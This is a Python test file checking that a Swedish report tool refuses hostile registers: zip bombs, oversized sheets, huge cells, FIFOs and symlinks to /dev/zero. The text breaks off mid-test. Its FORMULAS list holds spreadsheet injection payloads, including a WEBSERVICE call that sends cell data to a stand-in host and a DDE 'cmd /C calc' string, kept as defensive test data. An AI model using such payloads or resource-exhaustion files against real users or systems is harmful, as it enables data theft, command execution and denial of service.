"""Registers are untrusted input: a catalogue of hostile registers, one test per class.

Each is built small in the test (tests/registerbombs.py) and named as the test report's ledger
(huvudboken); ``slutrapport check`` must refuse it with exit 2 and one whole Swedish message
naming the register (and sheet and cell), or the data file's line when the path is at fault —
never abort, hang, eat the memory or print a traceback. A CSV with a byte order mark and Excel's
``sep=`` line is read as it is meant. Registers written by ``new --registers`` (and the workbook
in a Word chart) hold a report's texts as text, never as formulas.
"""

from __future__ import annotations

import io
import json
import os
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

from slutrapport import load
from slutrapport.cli import main
from slutrapport.errors import InputError
from slutrapport.registers import read_registers
from slutrapport.registers.files import MAX_CELLS, MAX_FILE_BYTES, MAX_PARTS
from tests import registerbombs as rb
from tests.registerdata import (
    COMPANIES,
    COMPANY_HEADER,
    LEDGER,
    LEDGER_HEADER,
    csv_bytes,
    make,
)

ROWS_READ = [
    "aktivitetsloggen (logg.xlsx, blad Logg): 5 rader lästa, 0 räknades inte.",
    "företagsregistret (foretag.xlsx, blad Foretag): 2 rader lästa, 0 räknades inte.",
    "huvudboken ({ledger}): 3 rader lästa, 0 räknades inte.",
    "finansieringsregistret (finansiering.xlsx, blad Finansiering): 2 rader lästa, 0 räknades "
    "inte.",
]
"""What check says of the test report's registers when they are read as they should be."""


def ledger_as(folder: Path, name: str) -> Path:
    """The test report in ``folder`` with its ledger named ``name`` (the report's path)."""
    path = make(folder)
    path.write_text(path.read_text(encoding="utf-8").replace(
        "kostnader: huvudbok.csv", f"kostnader: {name}"), encoding="utf-8")
    return path


def refusal(path: Path, *args: str) -> tuple[int, str]:
    """``slutrapport check`` on the report: exit code and everything it printed."""
    result = CliRunner().invoke(main, ["check", str(path), *args])
    assert result.exception is None or isinstance(result.exception, SystemExit)
    return result.exit_code, result.output


def infos(path: Path, *args: str) -> list[str]:
    """The messages of what check found (exit 0 expected: the registers read cleanly)."""
    result = CliRunner().invoke(main, ["check", str(path), "--format", "json", *args])
    assert result.exit_code == 0, result.output
    return [f["message"] for f in json.loads(result.output)["findings"]]


# --- .xlsx ---------------------------------------------------------------------------------------

XLSX_ERROR = "Fel i indata: huvudbok.xlsx: "


def test_a_sheet_declaring_two_gigabytes_unpacked_is_refused_before_unpacking(
        tmp_path: Path) -> None:
    """A zip whose directory says the sheet unpacks to 2 GB: refused on what it declares."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(rb.HEADER_ROW))
    rb.declare_size(tmp_path / "huvudbok.xlsx", "xl/worksheets/sheet1.xml", 2_000_000_000)
    assert refusal(path) == (2, XLSX_ERROR + (
        "kalkylarkets del xl/worksheets/sheet1.xml blir 2\u00a0000 MB uppackad, mer än gränsen "
        "200 MB för en del; registret läses inte\n"))


def test_a_sheet_packed_a_thousand_times_is_refused_as_a_zip_bomb(tmp_path: Path) -> None:
    """5 MB of spaces in a sheet pack to 5 KB: a ratio no spreadsheet has (the limit is 100)."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    book = rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(rb.HEADER_ROW + " " * 5_000_000))
    info = zipfile.ZipFile(book).getinfo("xl/worksheets/sheet1.xml")
    ratio = info.file_size // info.compress_size
    assert ratio > 100
    assert refusal(path) == (2, XLSX_ERROR + (
        f"kalkylarkets del xl/worksheets/sheet1.xml packas upp {ratio} gånger större "
        f"({format(info.compress_size, ',').replace(',', chr(0xa0))} byte blir 6 MB), mer än "
        "gränsen 100 gånger; så packas inget kalkylark, och registret läses inte\n"))


def test_a_zip_of_too_many_parts_is_refused(tmp_path: Path) -> None:
    """An .xlsx of 10 001 parts is refused before any is read."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    book = rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(rb.HEADER_ROW))
    with zipfile.ZipFile(book, "a") as z:
        for n in range(MAX_PARTS - 4):
            z.writestr(f"x/{n}", b"")
    assert refusal(path) == (2, XLSX_ERROR + (
        "kalkylarket består av 10\u00a0001 delar, fler än gränsen 10\u00a0000; registret läses "
        "inte\n"))


def test_a_declared_used_range_up_to_xfd1048576_is_refused(tmp_path: Path) -> None:
    """<dimension ref="A1:XFD1048576"> in a 1 KB file: 17 billion cells, refused unread."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(rb.HEADER_ROW, dimension="A1:XFD1048576"))
    assert refusal(path) == (2, XLSX_ERROR + (
        "blad Huvudbok: bladet anger att det används ända till cell XFD1048576 (<dimension>): "
        "1\u00a0048\u00a0576 rader × 16\u00a0384 kolumner är 17\u00a0179\u00a0869\u00a0184 celler, "
        "fler än gränsen 3\u00a0000\u00a0000 för ett register; ta bort det som står längst ut och "
        "längst ner på bladet och spara det igen\n"))


def test_one_cell_at_xfd1048576_is_refused_instead_of_aborting_the_process(
        tmp_path: Path) -> None:
    """One cell at XFD1048576 (no dimension) made the reader ask for 549 GB and abort (exit
    134); it is refused from the cell's reference before the reader runs."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(
        rb.HEADER_ROW + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
    assert refusal(path) == (2, XLSX_ERROR + (
        "blad Huvudbok: bladet används ända till cell XFD1048576: 1\u00a0048\u00a0576 rader × "
        "16\u00a0384 kolumner är 17\u00a0179\u00a0869\u00a0184 celler, fler än gränsen "
        "3\u00a0000\u00a0000 för ett register; ta bort det som står längst ut och längst ner på "
        "bladet och spara det igen\n"))


def test_a_cell_outside_a_sheet_s_grid_is_refused(tmp_path: Path) -> None:
    """A reference past XFD (XFE2) exists in no spreadsheet: the file is refused as broken."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(
        rb.HEADER_ROW + '<row r="2"><c r="XFE2"><v>1</v></c></row>'))
    assert refusal(path) == (2, XLSX_ERROR + (
        "blad Huvudbok: bladet har en cell i XFE2, utanför ett kalkylblads rutnät "
        "(A1–XFD1048576); filen är trasig eller gjord för att se ut som ett kalkylark, och "
        "registret läses inte\n"))


def test_cells_without_references_far_down_are_read_under_a_memory_cap_and_refused(
        tmp_path: Path) -> None:
    """Cells without r="…" take the place after the one before; such a sheet is read in a
    child process with a memory cap, and its extent refused there."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(
        rb.HEADER_ROW + '<row r="900000">' + "<c><v>1</v></c>" * 20 + "</row>"))
    assert refusal(path) == (2, XLSX_ERROR + (
        "blad Huvudbok: bladet används ända till cell T900000: 900\u00a0000 rader × 20 kolumner "
        "är 18\u00a0000\u00a0000 celler, fler än gränsen 3\u00a0000\u00a0000 för ett register; ta "
        "bort det som står längst ut och längst ner på bladet och spara det igen\n"))


@pytest.mark.parametrize(("cell", "shared", "message"), [
    ('<c r="B2" t="inlineStr"><is><t>' + "å" * 40_000 + "</t></is></c>", None,
     "blad Huvudbok: cellen B2 har 40\u00a0000 tecken, fler än de 32\u00a0767 som en cell "
     "rymmer; registret läses inte"),
    ('<c r="B2" t="s"><v>0</v></c>', "x" * 40_000,
     "en text i kalkylarkets del xl/sharedStrings.xml har 40\u00a0000 tecken, fler än de "
     "32\u00a0767 som en cell rymmer; registret läses inte"),
    ('<c r="B2" t="inlineStr"><is><r><t>' + "x" * 20_000 + "</t></r><r><t>" + "y" * 20_000
     + "</t></r></is></c>", None,
     "blad Huvudbok, rad 2, kolumn B: cellen har 40\u00a0000 tecken, fler än de 32\u00a0767 som "
     "en cell rymmer; registret läses inte"),
], ids=["inline", "shared", "rich-text"])
def test_a_cell_longer_than_excel_allows_is_refused(tmp_path: Path, cell: str,
                                                    shared: str | None, message: str) -> None:
    """A cell of 40 000 characters (Excel holds 32 767): inline, shared or in two runs."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(rb.HEADER_ROW + f'<row r="2">{cell}</row>'),
            shared=rb.shared_strings(shared) if shared is not None else None)
    assert refusal(path) == (2, XLSX_ERROR + message + "\n")


def test_more_shared_texts_than_a_register_has_cells_are_refused(tmp_path: Path) -> None:
    """A shared-strings part of 3 000 001 texts (stored, so no ratio gives it away): refused
    before the reader makes a string of each."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(rb.HEADER_ROW), stored=True,
            shared=rb.shared_strings(*["a"] * (MAX_CELLS + 1)))
    assert refusal(path) == (2, XLSX_ERROR + (
        "kalkylarket har fler än 3\u00a0000\u00a0000 delade texter (delen xl/sharedStrings.xml), "
        "fler än ett register kan ha celler; registret läses inte\n"))


def test_a_register_over_a_hundred_megabytes_is_refused_unread(tmp_path: Path) -> None:
    """A (sparse) file of 100 MB and one byte: refused by its size, nothing read."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    with open(tmp_path / "huvudbok.xlsx", "wb") as out:
        out.truncate(MAX_FILE_BYTES + 1)
    assert refusal(path) == (2, XLSX_ERROR + (
        "filen är 101 MB, mer än gränsen 100 MB för ett register; är det rätt fil?\n"))


LONG_TEXT = "x" * 32_767
"""A cell as long as Excel allows: shown by 3 052 cells, 100 004 884 characters once read."""

TEXT_TOTAL = (
    "blad Huvudbok: bladets celler blir tillsammans 100\u00a0004\u00a0903 tecken text när det "
    "läses (en text som flera celler visar räknas en gång för varje cell), fler än gränsen "
    "100\u00a0000\u00a0000 för ett register; registret läses inte\n")
"""The refusal of a ledger whose 3 052 rows each show the 32 767-character text (and whose
header row holds 19 characters)."""


@pytest.mark.parametrize("cell", [
    '<c r="B{r}" t="s"><v>0</v></c>',
    '<c r="B{r}" t="s" s="0"><v>0</v></c>',
    '<c r="B{r}" t="s"><v>1</v><v>0</v></c>',
    '<c r="B{r}" t="s"><x:v>0</x:v></c>',
], ids=["as-written-by-excel", "type-before-style", "two-values", "prefixed-value"])
def test_one_long_shared_text_shown_by_thousands_of_cells_is_refused_before_reading(
        tmp_path: Path, cell: str) -> None:
    """One 32 767-character shared text shown by 3 052 cells (a file of a few kilobytes): the
    reader would make a string of it for every cell (20 000 cells took 3,9 GB); the cells are
    counted with the text's length before it runs, however the cell is written."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rows = "".join(f'<row r="{r}">{cell.format(r=r)}</row>' for r in range(2, 3054))
    book = rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(rb.HEADER_ROW + rows),
                   shared=rb.shared_strings(LONG_TEXT, "kort"))
    assert book.stat().st_size < 100_000
    assert refusal(path) == (2, XLSX_ERROR + TEXT_TOTAL)


@pytest.mark.parametrize(("cell", "comment"), [
    ('<x:c r="B{r}" t="s"><x:v>0</x:v></x:c>', False),
    ('<c r="B{r}" t="s"><v>0</v></c>', True),
], ids=["prefixed-cells", "comment-in-the-shared-texts"])
def test_shared_texts_that_can_t_be_counted_unread_are_counted_by_the_capped_child(
        tmp_path: Path, cell: str, comment: bool) -> None:
    """Cells or shared texts written so that the search can't tell what they show: read in the
    child with the memory cap, which counts what it read and sends no rows back."""
    path = ledger_as(tmp_path, "huvudbok.xlsx")
    rows = "".join(f'<row r="{r}">{cell.format(r=r)}</row>' for r in range(2, 3054))
    shared = rb.shared_strings(LONG_TEXT, "kort")
    if comment:
        shared = shared.replace(b"<si>", b"<!-- en kommentar --><si>", 1)
    rb.xlsx(tmp_path / "huvudbok.xlsx", rb.sheet(rb.HEADER_ROW + rows), shared=shared)
    assert refusal(path) == (2, XLSX_ERROR + TEXT_TOTAL)


CLIPPED = "Ö" * 20 + "x" * 59 + "…"
"""How a message quotes a register's cell of 32 020 characters: its first 79, then '…'."""


def test_a_long_cell_is_quoted_short_in_every_message(tmp_path: Path) -> None:
    """A company name and a cost category of 32 020 characters: each message quoting them
    shows 80 characters (3 000 such cells quoted whole printed 659 MB); the company's second
    row is a likely duplicate, named by its rows only."""
    long = "Ö" * 20 + "x" * 32_000
    path = make(tmp_path, ledger=csv_bytes([*[LEDGER_HEADER, *LEDGER],
                                            ["2021-09-30", "V4", long, "1"]]),
                companies=[COMPANY_HEADER, *COMPANIES, [long, "Vännäs", 1, 1],
                           [long, "Vännäs", 1, 1]])
    result = CliRunner().invoke(main, ["check", str(path), "--format", "json"])
    quoting = [f["message"] for f in json.loads(result.output)["findings"] if "…" in f["message"]]
    assert quoting == [
        f"Företagsregistret har företaget {CLIPPED} (blad Foretag, rad 4), som "
        "företagstabellen saknar; fill skriver in det.",
        f"huvudbok.csv, rad 5, kolumn 3 (Kategori): kostnadsslaget '{CLIPPED}' finns inte i "
        "rapporten; rapporten har Personal, Externa tjänster. Raden räknades inte "
        "(register.etiketter.kategori kan ge registrets egna benämningar).",
    ]


def test_a_long_header_is_quoted_short_among_the_headers(tmp_path: Path) -> None:
    """A header of 32 020 characters where Kategori should stand: the list of headers quotes
    it short."""
    long = "Ö" * 20 + "x" * 32_000
    path = make(tmp_path, ledger=csv_bytes([["Datum", long, "Belopp"],
                                            *([d, c, a] for d, _v, c, a in LEDGER)]))
    result = CliRunner().invoke(main, ["check", str(path), "--format", "json"])
    assert [f["message"] for f in json.loads(result.output)["findings"]
            if f["code"] == "register-kolumn"] == [
        f"huvudbok.csv, rad 1: kolumnen Kategori saknas; rubrikerna är Datum, {CLIPPED}, Belopp. "
        "Registret räknades inte."]


# --- .ods and .xls -------------------------------------------------------------------------------


def test_an_ods_repeating_a_cell_over_the_whole_sheet_is_refused(tmp_path: Path) -> None:
    """One .ods cell repeated 16 384 columns × 1 048 576 rows: refused, the process intact."""
    path = ledger_as(tmp_path, "huvudbok.ods")
    rb.ods(tmp_path / "huvudbok.ods", (
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/>'
        "</table:table-row>"))
    assert refusal(path) == (2, (
        "Fel i indata: huvudbok.ods: kalkylarket sträcker sig över 17\u00a0179\u00a0869\u00a0184 "
        "celler, fler än gränsen 3\u00a0000\u00a0000 för ett register; ta bort det som står "
        "längst ut och längst ner på bladen och spara det igen\n"))


def test_an_ods_repeating_a_long_text_is_refused_by_the_child_that_read_it(
        tmp_path: Path) -> None:
    """One .ods cell of 32 767 characters repeated 800 columns × 4 rows (a file of 1 KB):
    read in the capped child, refused there by the characters the cells hold together."""
    path = ledger_as(tmp_path, "huvudbok.ods")
    book = rb.ods(tmp_path / "huvudbok.ods", (
        '<table:table-row table:number-rows-repeated="4"><table:table-cell '
        'table:number-columns-repeated="800" office:value-type="string"><text:p>' + LONG_TEXT
        + "</text:p></table:table-cell></table:table-row>"))
    assert book.stat().st_size < 2_000
    assert refusal(path) == (2, (
        "Fel i indata: huvudbok.ods: blad Huvudbok: bladets celler blir tillsammans "
        "104\u00a0854\u00a0400 tecken text när det läses (en text som flera celler visar räknas "
        "en gång för varje cell), fler än gränsen 100\u00a0000\u00a0000 för ett register; "
        "registret läses inte\n"))


def test_an_ods_of_four_million_cells_is_refused_by_the_child_that_read_it(
        tmp_path: Path) -> None:
    """2 000 × 2 000 repeated cells: read in the capped child, refused there by its extent."""
    path = ledger_as(tmp_path, "huvudbok.ods")
    rb.ods(tmp_path / "huvudbok.ods", (
        '<table:table-row table:number-rows-repeated="2000"><table:table-cell '
        'table:number-columns-repeated="2000" office:value-type="float" office:value="1"/>'
        "</table:table-row>"))
    assert refusal(path) == (2, (
        "Fel i indata: huvudbok.ods: blad Huvudbok: bladet används ända till cell BXX2000: "
        "2\u00a0000 rader × 2\u00a0000 kolumner är 4\u00a0000\u00a0000 celler, fler än gränsen "
        "3\u00a0000\u00a0000 för ett register; ta bort det som står längst ut och längst ner på "
        "bladet och spara det igen\n"))


def test_a_child_out_of_memory_is_a_refusal_and_the_process_lives_on(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An .ods of 32 million repeated cells (under python-calamine's own limit) makes the child
    reading it run out of its memory (lowered here to 400 MB, so it does so quickly): exit 2
    saying so, and this process goes on."""
    from slutrapport.registers import files as registerfiles

    monkeypatch.setattr(registerfiles, "CHILD_MEMORY_BYTES", 400_000_000)
    path = ledger_as(tmp_path, "huvudbok.ods")
    rb.ods(tmp_path / "huvudbok.ods", (
        '<table:table-row table:number-rows-repeated="2000"><table:table-cell '
        'table:number-columns-repeated="16000" office:value-type="float" office:value="1"/>'
        "</table:table-row>"))
    assert refusal(path) == (2, (
        "Fel i indata: huvudbok.ods: kalkylarket behövde mer minne än gränsen 400 MB för att "
        "läsas (celler långt ut på bladet, eller ett mycket stort register); registret läses "
        "inte\n"))


def test_a_huge_ods_cell_is_refused(tmp_path: Path) -> None:
    """An .ods cell of 40 000 characters."""
    path = ledger_as(tmp_path, "huvudbok.ods")
    rb.ods(tmp_path / "huvudbok.ods", (
        '<table:table-row><table:table-cell office:value-type="string"><text:p>'
        + "x" * 40_000 + "</text:p></table:table-cell></table:table-row>"))
    assert refusal(path) == (2, (
        "Fel i indata: huvudbok.ods: blad Huvudbok, rad 1, kolumn A: cellen har 40\u00a0000 "
        "tecken, fler än de 32\u00a0767 som en cell rymmer; registret läses inte\n"))


@pytest.mark.parametrize(("cells", "message"), [
    ([(0, 0, "Datum"), (19_999, 199, 1.0)],
     "blad Huvudbok: bladet används ända till cell GR20000: 20\u00a0000 rader × 200 kolumner är "
     "4\u00a0000\u00a0000 celler, fler än gränsen 3\u00a0000\u00a0000 för ett register; ta bort "
     "det som står längst ut och längst ner på bladet och spara det igen"),
    ([(0, 0, "Datum"), (1, 1, "x" * 40_000)],
     "blad Huvudbok, rad 2, kolumn B: cellen har 40\u00a0000 tecken, fler än de 32\u00a0767 som "
     "en cell rymmer; registret läses inte"),
], ids=["far-cell", "huge-cell"])
def test_an_xls_reaching_far_or_holding_a_huge_cell_is_refused(
        tmp_path: Path, cells: list[tuple[int, int, float | str]], message: str) -> None:
    """An Excel 97 workbook (.xls) with a cell at GR20000, or a cell of 40 000 characters."""
    path = ledger_as(tmp_path, "huvudbok.xls")
    rb.xls(tmp_path / "huvudbok.xls", cells)
    assert refusal(path) == (2, f"Fel i indata: huvudbok.xls: {message}\n")


@pytest.mark.parametrize("suffix", [".xls", ".ods"])
def test_an_xls_or_ods_ledger_is_read_by_the_capped_child(tmp_path: Path, suffix: str) -> None:
    """The child with the memory cap reads a good .xls or .ods ledger: it agrees with the
    report as the .csv one does."""
    table = [["Datum", "Kategori", "Belopp"], *([d, c, a] for d, _v, c, a in LEDGER)]
    path = ledger_as(tmp_path, f"huvudbok{suffix}")
    if suffix == ".xls":
        rb.xls(tmp_path / "huvudbok.xls",
               [(r, c, value) for r, row in enumerate(table) for c, value in enumerate(row)])
    else:
        rb.ods(tmp_path / "huvudbok.ods", "".join(
            "<table:table-row>" + "".join(
                f'<table:table-cell office:value-type="string"><text:p>{value}</text:p>'
                "</table:table-cell>" for value in row) + "</table:table-row>"
            for row in table))
    assert infos(path) == [m.format(ledger=f"huvudbok{suffix}, blad Huvudbok")
                           for m in ROWS_READ]


# --- .csv -----------------------------------------------------------------------------------------

CSV_ERROR = "Fel i indata: huvudbok.csv: "


def test_a_csv_with_a_byte_order_mark_and_excel_s_sep_line_is_read(tmp_path: Path) -> None:
    """UTF-8 with a BOM and Excel's 'sep=;' first line (it gave exit 3): read, the sep line is
    no row, and the ledger agrees with the report."""
    path = make(tmp_path, ledger=b"\xef\xbb\xbfsep=;\r\n" + csv_bytes([LEDGER_HEADER, *LEDGER]))
    assert infos(path) == [m.format(ledger="huvudbok.csv") for m in ROWS_READ]


def test_excel_s_sep_line_with_a_comma_is_read_with_commas(tmp_path: Path) -> None:
    """'sep=,' before a comma-separated ledger whose amounts have decimal commas in quotes:
    the line names the delimiter and is no row."""
    rows = [",".join(LEDGER_HEADER)] + [f'{d},{v},{c},"{a.replace(" ", "")}"'
                                        for d, v, c, a in LEDGER]
    path = make(tmp_path, ledger=("sep=,\n" + "\n".join(rows) + "\n").encode())
    assert infos(path) == [m.format(ledger="huvudbok.csv") for m in ROWS_READ]


@pytest.mark.parametrize(("data", "message"), [
    (b"Datum;Kategori;Belopp\r\n2020-02-28;Personal;1\r\n2021;Personal;1\x00\r\n",
     "rad 3: filen innehåller nolltecken (NUL) och är ingen textfil; är det rätt fil?"),
    (b'Datum;Kategori;Belopp\r\n2020-02-28;"Personal;1\r\n2021-02-26;Personal;2\r\n',
     'rad 2: ett citattecken (") öppnar ett fält på raden men stängs aldrig, så resten av '
     "filen skulle bli ett enda fält; lägg till det avslutande citattecknet"),
    (b'Datum;Kategori;Belopp\r\n2020-02-28;"Personal"x;1\r\n',
     "rad 2: efter ett citattecken (\") som avslutar ett fält ska ';' eller radslut komma; "
     'skriv två citattecken ("") för ett citattecken i ett fält'),
    (b"Datum;Kategori;Belopp\r\n2020-02-28;" + b"x" * 40_000 + b";1\r\n",
     "rad 2, kolumn 2: fältet har 40\u00a0000 tecken, fler än de 32\u00a0767 som en cell "
     "rymmer; registret läses inte"),
    (b"Datum;Kategori;Belopp\r\n2020-02-28;" + b"x" * 200_000 + b";1\r\n",
     "rad 2: raden har ett fält med fler än 32\u00a0767 tecken, mer än en cell rymmer; "
     "registret läses inte"),
    (b"sep=;\r\nDatum;Kategori;Belopp\r\n" + b";" * 3_000_001 + b"\r\n",
     "rad 2: filen har fler än 3\u00a0000\u00a0000 fält, gränsen för ett register; registret "
     "läses inte"),
], ids=["nul", "unclosed-quote", "text-after-quote", "huge-field", "over-csv-limit",
        "too-many-fields"])
def test_a_broken_csv_is_refused_at_its_row(tmp_path: Path, data: bytes, message: str) -> None:
    """NUL bytes, a quote never closed, text after a closing quote, a field longer than a cell
    (also past Python's own limit) and more fields than a sheet may have: exit 2 at the row."""
    path = make(tmp_path, ledger=data)
    assert refusal(path) == (2, CSV_ERROR + message + "\n")


# --- where a register may be ---------------------------------------------------------------------


def _elsewhere(tmp_path: Path) -> tuple[Path, Path]:
    """The test report in tmp_path/rapport and a good ledger outside its folder."""
    folder = tmp_path / "rapport"
    folder.mkdir()
    outside = tmp_path / "annan" / "huvudbok.csv"
    outside.parent.mkdir()
    outside.write_bytes(csv_bytes([LEDGER_HEADER, *LEDGER]))
    return folder, outside


@pytest.mark.parametrize("how", ["relative", "absolute", "link"])
def test_a_register_outside_the_data_file_s_folder_is_refused_without_the_flag(
        tmp_path: Path, how: str) -> None:
    """'../annan/huvudbok.csv', an absolute path, or a link out of the folder: refused at the
    data file's line; with --tillat-sokvag read as any register."""
    folder, outside = _elsewhere(tmp_path)
    if how == "relative":
        path, named = ledger_as(folder, "../annan/huvudbok.csv"), f"{folder}/../annan/huvudbok.csv"
        via = ""
    elif how == "absolute":
        path, named, via = ledger_as(folder, str(outside)), str(outside), ""
    else:
        path = make(folder)
        (folder / "huvudbok.csv").unlink()
        (folder / "huvudbok.csv").symlink_to(outside)
        named, via = f"{folder}/huvudbok.csv", f" (genom en länk: {outside})"
    assert refusal(path) == (2, (
        f"Fel i indata: {path}:48: register.kostnader: registret (huvudboken) {named} ligger "
        f"utanför datafilens mapp {folder}{via}; en datafil får bara läsa register i sin egen "
        "mapp och mapparna under den. Ange --tillat-sokvag om registret ska läsas ändå\n"))
    shown = {"relative": "../annan/huvudbok.csv", "absolute": str(outside),
             "link": "huvudbok.csv"}[how]
    assert infos(path, "--tillat-sokvag") == [m.format(ledger=shown) for m in ROWS_READ]


def test_read_registers_and_fill_take_the_permission_too(tmp_path: Path) -> None:
    """The Python API: read_registers(allow_outside=True) reads a register elsewhere, and
    fill --tillat-sokvag fills from it; without it fill is refused at the same line."""
    folder, _ = _elsewhere(tmp_path)
    path = ledger_as(folder, "../annan/huvudbok.csv")
    report = load(path)
    with pytest.raises(InputError):
        read_registers(report)
    assert [len(r.kostnader) for r in [read_registers(report, allow_outside=True)]] == [3]
    refused = CliRunner().invoke(main, ["fill", str(path)])
    assert (refused.exit_code, refused.output.split(": register.kostnader: ")[0]) == (
        2, f"Fel i indata: {path}:48")
    allowed = CliRunner().invoke(main, ["fill", str(path), "--tillat-sokvag"])
    assert (allowed.exit_code, allowed.output) == (
        0, f"{path}: talen stämmer redan med registren; inget att ändra.\n")


@pytest.mark.parametrize("flag", [(), ("--tillat-sokvag",)], ids=["plain", "allowed"])
def test_a_fifo_named_csv_is_refused_without_waiting(tmp_path: Path,
                                                     flag: tuple[str, ...]) -> None:
    """A FIFO named huvudbok.csv would block a reader for ever: refused as no regular file."""
    path = make(tmp_path)
    (tmp_path / "huvudbok.csv").unlink()
    os.mkfifo(tmp_path / "huvudbok.csv")
    assert refusal(path, *flag) == (2, (
        f"Fel i indata: {path}:48: register.kostnader: registret (huvudboken) "
        f"{tmp_path}/huvudbok.csv är en namngiven rörledning (FIFO), inte en vanlig fil, och "
        "läses inte\n"))


def test_a_link_to_dev_zero_is_refused_as_outside_and_as_a_device(tmp_path: Path) -> None:
    """huvudbok.csv → /dev/zero never ends: refused as outside the folder, and with the flag
    as a device."""
    path = make(tmp_path)
    (tmp_path / "huvudbok.csv").unlink()
    (tmp_path / "huvudbok.csv").symlink_to("/dev/zero")
    start = f"Fel i indata: {path}:48: register.kostnader: registret (huvudboken) "
    assert refusal(path) == (2, (
        f"{start}{tmp_path}/huvudbok.csv ligger utanför datafilens mapp {tmp_path} (genom en "
        "länk: /dev/zero); en datafil får bara läsa register i sin egen mapp och mapparna under "
        "den. Ange --tillat-sokvag om registret ska läsas ändå\n"))
    assert refusal(path, "--tillat-sokvag") == (2, (
        f"{start}{tmp_path}/huvudbok.csv är en enhetsfil, inte en vanlig fil, och läses inte\n"))


@pytest.mark.parametrize(("target", "why"), [
    ("huvudbok.csv", "kan inte nås (för många symboliska länkar i sökvägen)"),
    ("saknas.csv", "finns inte: {folder}/huvudbok.csv (länken pekar på {folder}/saknas.csv, som "
                   "inte finns)"),
], ids=["loop", "dangling"])
def test_a_link_in_a_loop_or_to_nothing_is_refused_at_the_data_file_s_line(
        tmp_path: Path, target: str, why: str) -> None:
    """huvudbok.csv → itself, or → a file that isn't there: exit 2 at register.kostnader."""
    path = make(tmp_path)
    (tmp_path / "huvudbok.csv").unlink()
    (tmp_path / "huvudbok.csv").symlink_to(target)
    reason = why.format(folder=tmp_path)
    named = "" if reason.startswith("finns inte") else f"{tmp_path}/huvudbok.csv "
    assert refusal(path) == (2, (
        f"Fel i indata: {path}:48: register.kostnader: registret (huvudboken) {named}{reason}\n"))


def test_the_flag_is_named_in_swedish_in_the_help_of_check_fill_and_render() -> None:
    """--tillat-sokvag is offered, in Swedish, where registers are read."""
    for command in ("check", "fill", "render"):
        text = CliRunner().invoke(main, [command, "--help"]).output
        flat = " ".join(text.split())
        assert ("--tillat-sokvag Läs registren också utanför datafilens mapp (en sökväg med .., "
                "en absolut sökväg eller en länk ut ur mappen); bara för en datafil du litar "
                "på.") in flat, command


# --- no formulas written from data ---------------------------------------------------------------

FORMULAS = ['=WEBSERVICE("http://example.invalid/?"&A1)', '=HYPERLINK("http://x.invalid","k")',
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def _formula_report(tmp_path: Path) -> Path:
    """The test report (without its registers) with an area heading, a municipality, a cost
    category and financiers that begin as formulas do."""
    text = make(tmp_path).read_text(encoding="utf-8").split("\n# Registren")[0] + "\n"
    for old, new in (("rubrik: Mötesplatser", f"rubrik: '{FORMULAS[0]}'"),
                     ("kommuner: [Vännäs, Robertsfors]", f"kommuner: [Vännäs, '{FORMULAS[1]}']"),
                     ("kategori: Externa tjänster", f'kategori: "{FORMULAS[2]}"'),
                     ("finansiarer: [Tillväxtverket, Region Västerbotten]",
                      f"finansiarer: [Tillväxtverket, '{FORMULAS[3]}', '{FORMULAS[4]}']")):
        assert old in text
        text = text.replace(old, new)
    path = tmp_path / "formler.yaml"
    path.write_text(text, encoding="utf-8")
    return path


_INLINE = re.compile(
    rb'<c r="[A-Z]+[0-9]+"(?: s="([0-9]+)")? t="inlineStr"><is><t[^>]*>([^<]*)</t>')
_SHARED = re.compile(rb'<c r="[A-Z]+[0-9]+"(?: s="([0-9]+)")? t="s"><v>([0-9]+)</v>')
_SHARED_TEXT = re.compile(rb"<si><t[^>]*>([^<]*)</t></si>")


def _text_cells(z: zipfile.ZipFile) -> list[tuple[bytes, bytes]]:
    """Every text cell of a workbook's sheets as (style, escaped text): written inline or in the
    shared strings."""
    xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    shared = (_SHARED_TEXT.findall(z.read("xl/sharedStrings.xml"))
              if "xl/sharedStrings.xml" in z.namelist() else [])
    return _INLINE.findall(xml) + [(style, shared[int(i)]) for style, i in _SHARED.findall(xml)]


def test_report_texts_that_begin_as_formulas_are_written_as_text(tmp_path: Path) -> None:
    """new --registers --from: texts beginning with =, +, - or @ are string cells with the
    quote prefix (the apostrophe a spreadsheet shows), never <f> formulas."""
    import html

    report = _formula_report(tmp_path)
    result = CliRunner().invoke(main, ["new", "--registers", str(tmp_path / "reg"), "--from",
                                       str(report)])
    assert result.exit_code == 0, result.output
    found: dict[str, set[bool]] = {}
    for book in sorted((tmp_path / "reg").glob("*.xlsx")):
        with zipfile.ZipFile(book) as z:
            xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
            styles = z.read("xl/styles.xml").split(b"<cellXfs")[1].split(b"</cellXfs>")[0]
            cells = _text_cells(z)
        assert re.findall(rb"<f[\s>/]", xml) == [], book.name
        prefixed = [b'quotePrefix="1"' in xf for xf in re.findall(rb"<xf [^>]*>", styles)]
